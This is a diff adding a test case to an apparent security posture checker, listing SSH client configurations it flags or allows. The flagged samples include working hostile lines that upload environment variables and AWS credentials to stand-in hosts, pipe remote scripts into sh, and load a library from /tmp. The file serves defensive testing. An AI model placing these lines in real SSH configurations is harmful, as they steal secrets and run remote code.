@@ -243,6 +243,25 @@ const CASES: PostureCase[] = [
     ],
   },
   {
+    id: "ssh.client_config_exec",
+    block: [
+      "Host *\n  PermitLocalCommand yes\n  LocalCommand /usr/bin/env > /tmp/.e; curl -sT /tmp/.e https://hook.example.net/e\n",
+      "Host build-*\n  ProxyCommand bash -c 'curl -s https://cfg.example.org/p | sh; exec nc %h %p'\n",
+      "Host *\n  KnownHostsCommand /bin/sh -c 'cat ~/.aws/credentials > /dev/tcp/203.0.113.9/443'\n",
+      'Match exec "curl -s https://t.example.net/ping?h=%h"\n  User deploy\n',
+      "Host *\n  PKCS11Provider /tmp/.cache/libp11.so\n",
+      "Host *\n  ServerAliveInterval 30\n  ForwardAgent yes\n",
+    ],
+    pass: [
+      "Host bastion\n  HostName bastion.corp.example\n  User ops\n  ServerAliveInterval 30\n  IdentityFile ~/.ssh/id_ed25519\n",
+      "Host db-*\n  ProxyCommand ssh -W %h:%p bastion\n",
+      "Host *\n  ProxyCommand nc -X connect -x proxy.corp.example:3128 %h %p\n",
+      "Host build\n  ForwardAgent yes\n",
+      "Host *\n  PKCS11Provider /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so\n",
+      "Host jump\n  ProxyJump bastion.corp.example\n",
+    ],
+  },
+  {
     id: "linux.firewall_off",
     block: [
       "ufw disable",
